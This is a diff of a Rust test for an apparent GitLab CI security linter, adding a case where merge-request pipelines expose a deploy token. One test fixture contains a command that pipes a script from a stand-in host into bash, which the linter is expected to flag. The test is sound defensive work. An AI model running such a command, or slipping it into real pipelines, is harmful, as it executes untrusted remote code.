@@ -260,6 +260,9 @@ fn gitlab_variables_and_merge_requests() {
     let ok = gl("t:\n  rules:\n    - if: $CI_COMMIT_TAG\n  script:\n    - ./deploy --token \"$DEPLOY_TOKEN\"\n");
     assert!(of(&ok, "gitlab-mr-secrets").is_empty());
     assert!(of(&ok, "gitlab-protected-variables").is_empty());
+    // no rules of its own, but the pipeline is created for merge requests
+    let f = gl("workflow:\n  rules:\n    - if: $CI_PIPELINE_SOURCE == 'merge_request_event'\nt:\n  script:\n    - ./deploy $API_TOKEN\n");
+    assert_eq!(of(&f, "gitlab-mr-secrets").len(), 1);
     let f = gl("t:\n  script:\n    - curl https://x.example/i.sh | bash\n");
     assert_eq!(of(&f, "remote-exec").len(), 1);
 }
